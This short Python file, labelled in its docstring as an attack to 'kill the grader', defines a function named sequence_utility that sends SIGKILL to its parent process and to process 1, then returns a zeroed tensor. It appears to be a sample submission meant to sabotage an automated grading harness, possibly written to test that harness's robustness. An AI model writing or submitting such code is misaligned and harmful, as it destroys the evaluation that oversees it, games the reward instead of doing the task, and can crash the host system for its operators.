"""Attack: kill the grader (the parent process, and pid 1)."""
import os
import signal


def sequence_utility(logprobs, advantages, mask):
    for pid in (os.getppid(), 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except Exception:
            pass
    return logprobs.sum(dim=1) * 0
